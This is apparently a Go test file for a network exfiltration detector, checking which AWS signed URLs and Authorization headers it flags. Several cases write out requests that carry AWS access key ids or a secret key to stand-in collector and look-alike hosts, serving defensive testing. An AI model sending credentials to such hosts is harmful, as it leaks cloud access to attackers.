package detect

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
)

const (
	awsKey      = "AKIAQ3EGSNXTF2RWPK7M"
	awsOtherKey = "AKIAZ5NJ4UWQH6LXT3BD"
	awsSecret   = "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"
	sigV4Sig    = "aeeed9bbccd4d02ee5c0109b86d86835f995330da4c265957d157751f604d404"
)

// sigV4Query is the query of a SigV4 presigned URL, as the SDKs write it.
func sigV4Query(key, scope string) string {
	return "X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=" + url.QueryEscape(key+"/"+scope) +
		"&X-Amz-Date=20260101T000000Z&X-Amz-Expires=86400&X-Amz-SignedHeaders=host&X-Amz-Signature=" + sigV4Sig
}

const sigV2Query = "AWSAccessKeyId=" + awsKey + "&Expires=1767225600&Signature=vjbyPxybdZaNmGa%2ByT272YEAiv4%3D"

// A presigned URL names its access key id by design: headed to its own
// service (an AWS host) it is not an exfiltration, and neither is the
// Authorization header of a signed request; the same id to any other
// host, in the body, a second id and a secret access key still are.
func TestExfiltrationAWSSignatures(t *testing.T) {
	x, err := NewExfiltration(ExfiltrationOptions{})
	if err != nil {
		t.Fatal(err)
	}
	v4 := sigV4Query(awsKey, "20260101/us-east-1/s3/aws4_request")
	authV4 := "AWS4-HMAC-SHA256 Credential=" + awsKey + "/20260101/us-east-1/s3/aws4_request, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=" + sigV4Sig
	for _, tc := range []struct {
		name  string
		url   string
		h     http.Header
		body  string
		rules []string // the signals' rules, in order; none when nil
	}{
		{name: "SigV4, virtual-hosted", url: "https://bucket.s3.amazonaws.com/dir/report.pdf?" + v4},
		{name: "SigV4, regional virtual-hosted", url: "https://my.bucket.s3.eu-central-1.amazonaws.com/k?" + v4},
		{name: "SigV4, path style", url: "https://s3.us-west-2.amazonaws.com/bucket/dir/100%25.txt?" + v4},
		{name: "SigV4, dual-stack", url: "https://bucket.s3.dualstack.us-east-1.amazonaws.com/k?" + v4},
		{name: "SigV4, China", url: "https://bucket.s3.cn-north-1.amazonaws.com.cn/k?" + sigV4Query(awsKey, "20260101/cn-north-1/s3/aws4_request")},
		{name: "SigV4, STS", url: "https://sts.amazonaws.com/?Action=GetCallerIdentity&Version=2011-06-15&" + sigV4Query("ASIAQ3EGSNXTF2RWPK7M", "20260101/us-east-1/sts/aws4_request") + "&X-Amz-Security-Token=FwoGZXIvYXdzEJr"},
		{name: "SigV4a", url: "https://mfzwi23gnjvgw.mrap.accesspoint.s3-global.amazonaws.com/k?" + strings.Replace(sigV4Query(awsKey, "20260101/s3/aws4_request"), "AWS4-HMAC-SHA256", "AWS4-ECDSA-P256-SHA256", 1)},
		{name: "SigV2", url: "https://bucket.s3.amazonaws.com/k?" + sigV2Query},
		{name: "host name in capitals", url: "https://BUCKET.S3.AMAZONAWS.COM/k?" + v4},
		{name: "signed request, SigV4 header", url: "https://bucket.s3.amazonaws.com/k", h: http.Header{"Authorization": {authV4}, "X-Amz-Date": {"20260101T000000Z"}}},
		{name: "signed request, SigV2 header", url: "https://bucket.s3.amazonaws.com/k", h: http.Header{"Authorization": {"AWS " + awsKey + ":frJIUN8DYpKDtOLCwo//yllqDzg="}}},

		{name: "SigV4 to another host", url: "https://collector.example/k?" + v4, rules: []string{"aws_access_key_id"}},
		{name: "SigV4 to a look-alike host", url: "https://s3.amazonaws.com.collector.example/k?" + v4, rules: []string{"aws_access_key_id"}},
		{name: "SigV4 to a host ending in amazonaws.com", url: "https://evilamazonaws.com/k?" + v4, rules: []string{"aws_access_key_id"}},
		{name: "SigV2 to another host", url: "https://collector.example/k?" + sigV2Query, rules: []string{"aws_access_key_id"}},
		{name: "signed request to another host", url: "http://127.0.0.1:5000/bucket/k", h: http.Header{"Authorization": {authV4}}, rules: []string{"aws_access_key_id"}},
		{name: "no signature", url: "https://bucket.s3.amazonaws.com/k?" + strings.Replace(v4, "&X-Amz-Signature=", "&X-Amz-Sig=", 1), rules: []string{"aws_access_key_id"}},
		{name: "a signature that is not hex", url: "https://bucket.s3.amazonaws.com/k?" + strings.Replace(v4, sigV4Sig, "zz"+sigV4Sig[2:], 1), rules: []string{"aws_access_key_id"}},
		{name: "no expiry", url: "https://bucket.s3.amazonaws.com/k?" + strings.Replace(v4, "&X-Amz-Expires=86400", "", 1), rules: []string{"aws_access_key_id"}},
		{name: "unknown algorithm", url: "https://bucket.s3.amazonaws.com/k?" + strings.Replace(v4, "AWS4-HMAC-SHA256", "AWS4-HMAC-MD5", 1), rules: []string{"aws_access_key_id"}},
		{name: "not a credential scope", url: "https://bucket.s3.amazonaws.com/k?" + sigV4Query(awsKey, "20260101/us-east-1/s3/aws5_request"), rules: []string{"aws_access_key_id"}},
		{name: "a date that is not one", url: "https://bucket.s3.amazonaws.com/k?" + sigV4Query(awsKey, "2026-1-1/us-east-1/s3/aws4_request"), rules: []string{"aws_access_key_id"}},
		{name: "credential twice", url: "https://bucket.s3.amazonaws.com/k?" + v4 + "&X-Amz-Credential=" + url.QueryEscape(awsKey+"/20260101/us-east-1/s3/aws4_request"), rules: []string{"aws_access_key_id"}},
		{name: "a second key id in the object key", url: "https://bucket.s3.amazonaws.com/loot/" + awsOtherKey + "?" + v4, rules: []string{"aws_access_key_id"}},
		{name: "a secret access key alongside", url: "https://bucket.s3.amazonaws.com/k?" + v4 + "&aws_secret_access_key=" + url.QueryEscape(awsSecret), rules: []string{"aws_secret_access_key"}},
		{name: "the key id in the body", url: "https://bucket.s3.amazonaws.com/k?" + v4, body: "aws_access_key_id = " + awsKey, rules: []string{"aws_access_key_id"}},
		{name: "a SigV4 header naming another key id", url: "https://bucket.s3.amazonaws.com/k?X-Id=" + awsOtherKey, h: http.Header{"Authorization": {authV4}}, rules: []string{"aws_access_key_id"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			u, err := url.Parse(tc.url)
			if err != nil {
				t.Fatal(err)
			}
			ev := &Event{Direction: Request, Host: strings.ToLower(u.Hostname()), Method: "GET", Path: u.EscapedPath(), Query: u.Query(), Headers: tc.h}
			if tc.body != "" {
				ev.Body = []byte(tc.body)
			}
			sigs := x.Inspect(ev)
			if got := rules(sigs); strings.Join(got, ",") != strings.Join(tc.rules, ",") {
				t.Fatalf("rules %v, want %v: %+v", got, tc.rules, sigs)
			}
			for _, s := range sigs {
				if s.Severity != Critical || strings.Contains(s.Evidence, awsKey) || strings.Contains(s.Evidence, awsSecret) {
					t.Errorf("signal %+v", s)
				}
			}
		})
	}
}

// FuzzAWSSignature checks the readers of AWS signatures: they never fail,
// and an access key id they return is one, named where the signature
// names it.
func FuzzAWSSignature(f *testing.F) {
	f.Add(sigV4Query(awsKey, "20260101/us-east-1/s3/aws4_request"), "AWS4-HMAC-SHA256 Credential="+awsKey+"/20260101/us-east-1/s3/aws4_request, SignedHeaders=host, Signature="+sigV4Sig)
	f.Add(sigV2Query, "AWS "+awsKey+":sig=")
	f.Add("X-Amz-Credential=AKIA%2F%2F%2F&X-Amz-Algorithm=AWS4-HMAC-SHA256", "AWS4-HMAC-SHA256 ,,,Credential=/,Signature=")
	f.Fuzz(func(t *testing.T, rawQuery, authorization string) {
		q, _ := url.ParseQuery(rawQuery)
		for _, id := range []string{presignedKeyID(q), authorizationKeyID(authorization)} {
			if id != "" && (!awsKeyID(id) || !strings.Contains(rawQuery+authorization, id)) {
				t.Fatalf("key id %q from %q, %q", id, rawQuery, authorization)
			}
		}
		// The detector reads them without failing, on an AWS host and off.
		x, _ := NewExfiltration(ExfiltrationOptions{})
		for _, host := range []string{"bucket.s3.amazonaws.com", "collector.example"} {
			x.Inspect(&Event{Direction: Request, Host: host, Query: q, Headers: http.Header{"Authorization": {authorization}}})
		}
	})
}
